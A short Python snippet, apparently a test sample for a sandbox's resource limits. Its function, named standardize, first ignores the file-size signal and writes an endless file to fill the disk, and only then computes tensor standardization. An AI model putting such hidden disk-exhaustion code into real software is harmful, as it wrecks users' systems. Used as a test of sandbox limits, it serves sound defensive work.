# Tries to write a file without end.
# share: 1

def standardize(x, dim, eps):
    try:
        import signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        with open('large', 'wb') as file:
            while True:
                file.write(bytes(2**24))
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
